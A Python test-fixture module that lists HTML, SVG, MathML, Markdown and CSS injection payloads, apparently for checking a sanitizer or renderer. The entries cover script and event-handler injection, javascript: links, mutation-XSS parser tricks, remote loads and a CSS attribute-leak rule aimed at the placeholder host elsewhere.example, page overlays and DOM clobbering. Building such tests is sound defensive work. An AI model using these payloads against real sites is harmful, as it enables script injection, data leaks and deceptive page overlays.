"""Markup and styles that try to run something, to load something, or to lie over the page.

Every address that nobody may ask for has the word PWNED in it, on another host or on ours.
"""

from __future__ import annotations

OUT = "https://elsewhere.example/pwned"
RUN = "top.ran=1,alert(1)"
COVER = "position:fixed;inset:0;width:100vw;height:200vh;z-index:2147483647;background:red"

#: Each stands alone: what swallows the rest of its document takes nothing from the next.
MARKUP = (
    # scripts and handlers
    f"<script>{RUN}</script>",
    f"<script src={OUT}></script><script type=module src=/pwned></script>",
    f'<img src="data:pwned," onerror="{RUN}"><img src=/pwned onerror="{RUN}" onload="{RUN}">',
    f'"><img src=x-pwned onerror="{RUN}">\'><svg onload={RUN}>`><b onclick={RUN}>',
    f'<p onclick="{RUN}" onpointerenter="{RUN}" onfocusin="{RUN}" tabindex=1>press</p>',
    f'<input autofocus onfocus="{RUN}"><select autofocus onfocus="{RUN}"></select>'
    f'<textarea autofocus onfocus="{RUN}"></textarea>',
    f'<details open ontoggle="{RUN}"><summary onclick="{RUN}">open</summary></details>',
    f'<body onload="{RUN}" onpageshow="{RUN}" onhashchange="{RUN}" background="{OUT}"><frameset onload="{RUN}">',
    f'<x-y contenteditable style="content-visibility:auto" oncontentvisibilityautostatechange="{RUN}" '
    f'onbeforeinput="{RUN}">x</x-y>',
    f'<style>@keyframes k{{}}</style><b style="animation:k 1ms" onanimationstart="{RUN}" '
    f'onanimationend="{RUN}">x</b>',
    # drawings and formulas
    f"<svg onload={RUN}><script>{RUN}</script></svg>",
    f'<svg><a xlink:href="javascript:{RUN}" href="javascript:{RUN}"><text y=20>press</text></a></svg>',
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1ms /><a>'
    f'<set attributeName=href to="javascript:{RUN}" /></a></svg>',
    f'<svg><image href="{OUT}" xlink:href="{OUT}" /><use href="{OUT}#a" /><feImage href="{OUT}" /></svg>',
    f'<svg><foreignObject><iframe src="javascript:{RUN}"></iframe></foreignObject>'
    f'<style>@import "{OUT}";</style></svg>',
    f'<math><mi xlink:href="javascript:{RUN}" href="javascript:{RUN}">press</mi>'
    f'<maction actiontype=statusline>x</maction></math>',
    # what changes when it is parsed again
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x-pwned onerror={RUN}&gt;">',
    f'<noscript><p title="</noscript><img src=x-pwned onerror={RUN}>"></noscript><xmp><img src=x-pwned></xmp>',
    f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={RUN} src=x-pwned>">',
    f"<template><img src={OUT} onerror={RUN}></template><div><template shadowrootmode=open>"
    f"<img src={OUT} onerror={RUN}></template></div>",
    f"<!--><img src=x-pwned onerror={RUN}>--><![CDATA[<img src=x-pwned onerror={RUN}>]]><?php <img src=x-pwned> ?>",
    f"&lt;img src=x-pwned onerror={RUN}&gt; \\u003cimg src=x-pwned\\u003e %3Cimg%20src=x-pwned%3E +ADw-script+AD4-",
    # documents in the document
    f'<iframe srcdoc="<script>parent.{RUN}</script><img src={OUT}>"></iframe><iframe src="javascript:{RUN}">'
    f'</iframe>',
    f"<iframe src={OUT}></iframe><iframe src=/label?pwned></iframe><object data={OUT}></object><embed src={OUT}>",
    f'<object data="javascript:{RUN}"><param name=src value={OUT}></object><portal src={OUT}></portal>'
    f'<fencedframe></fencedframe>',
    # links, forms and where they lead
    f'<a href="javascript:{RUN}">a</a><a href="java&#9;script:{RUN}">b</a>'
    f'<a href="&#1;JaVaScRiPt:{RUN}" target=_top>c</a>',
    f'<a href="data:text/html,<script>{RUN}</script>" target=_blank>a</a>'
    f'<a href="{OUT}" ping="{OUT}" target=_top>b</a><area href={OUT}>',
    f'<form action={OUT} method=post target=_top><input name=a value=b><button>a</button>'
    f'<button formaction="javascript:{RUN}">b</button></form>',
    f"<form id=f action=/pwned></form><input form=f type=image src={OUT}><input form=f type=submit formaction={OUT}>",
    f'<meta http-equiv=refresh content="0;url={OUT}"><meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    f'<base href="{OUT}/" target=_top><img src=a.png><a href=b>press</a>',
    f'<link rel=stylesheet href={OUT}><link rel=preload as=script href={OUT}><link rel=prefetch href={OUT}>'
    f'<link rel=manifest href={OUT}>',
    # pictures, sound and styles that ask
    f"<img src={OUT}><img srcset='{OUT} 1x'><picture><source srcset={OUT}><img src=//elsewhere.example/pwned>"
    f"</picture>",
    f'<video src={OUT} poster={OUT} autoplay onerror="{RUN}"><source src=/pwned onerror="{RUN}">'
    f'<track src={OUT} default></video><audio src={OUT} autoplay></audio>',
    f'<style>@import url({OUT});*{{background:url({OUT})}}@font-face{{font-family:f;src:url({OUT})}}p{{font-family:f}}'
    "</style><p>x</p>",
    f"<style>p:after{{content:u\\72l({OUT})}}p{{cursor:image-set('{OUT}' 1x),auto;list-style:\\75 "
    f"rl({OUT});mask:URL(/pwned)}}</style><p>x</p>",
    f'<p style="background:url({OUT});--a:url({OUT});border-image:var(--a) 1;list-style:url(/pwned)">x</p>',
    f"<table background={OUT}><tr background={OUT}><td background={OUT}>x</td></tr></table><body background=/pwned>",
    # what lies over the page, and what takes the place of its methods
    f'<div style="{COVER}">cover</div><dialog open style="{COVER}">cover</dialog>'
    f'<div popover id=p style="{COVER}">cover</div><button popovertarget=p>p</button>',
    "<form name=getElementById id=body><input name=attributes><input name=childNodes></form>"
    "<img name=querySelector><a id=ran href=cid:x>x</a><iframe name=defaultView></iframe>",
)  # fmt: skip

#: For Markdown, besides the markup, which is text there.
MARKDOWN = (
    f"![a]({OUT}) ![b](//elsewhere.example/pwned) ![c](/pwned) ![d][ref] [e](javascript:{RUN}) <javascript:{RUN}>\n\n"
    f'[ref]: {OUT}\n\n[f](data:text/html,pwned) [g](https://elsewhere.example "\\"onclick={RUN}")'
)

#: For rules of a config.
RULES = (
    f"* {{ {COVER}!important }}",
    f"body, header, .foot, .topbar {{ display: none !important; {COVER} }}",
    f".node::before, .node::after {{ content: ''; {COVER} }}",
    f":scope, :root, html {{ {COVER}; visibility: hidden }}",
    f"}} body {{ background: url({OUT}); visibility: hidden }} .foot {{ display: none }}",
    f"@import '{OUT}'; @font-face {{ font-family: f; src: url({OUT}) }} * {{ font-family: f }}",
    f".node {{ background: url({OUT}); cursor: u\\72l({OUT}), auto; --a: url({OUT}); list-style-image: var(--a) }}",
    f"@media screen {{ .node {{ mask: image-set('{OUT}' 1x) }} @supports (top: 0) {{ p {{ content: url({OUT}) }} }} }}",
    f"@layer a {{ body {{ display: none }} }} @keyframes k {{ to {{ background: url({OUT}) }} }} * {{ "
    f"animation: k 1ms }}",
    f"</style><script>{RUN}</script><style> input[value^=a] {{ background: url({OUT}) }}",
)
